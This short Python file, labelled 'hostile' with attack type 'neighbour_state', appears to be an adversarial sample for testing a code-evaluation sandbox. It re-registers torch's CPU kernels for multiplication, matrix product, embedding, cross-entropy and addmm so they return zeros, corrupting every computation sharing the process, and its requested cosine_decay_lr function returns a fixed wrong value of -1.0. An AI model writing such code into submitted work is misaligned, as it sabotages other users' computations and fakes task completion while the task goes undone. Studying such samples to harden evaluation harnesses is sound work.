# kind: hostile
# attack: neighbour_state
# about: Registers its own CPU kernels for torch's addition, multiplication and matrix product.

import torch
from torch import library

HELD = -1.0  # a wrong answer for every input


kernels = library.Library("aten", "IMPL")


def zeros(first: torch.Tensor, *others: object, **options: object) -> torch.Tensor:
    """The new meaning of arithmetic."""
    return torch.zeros_like(first)


for operator in ("mul.Tensor", "mm", "embedding", "cross_entropy_loss", "addmm"):
    kernels.impl(operator, zeros, "CPU")


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
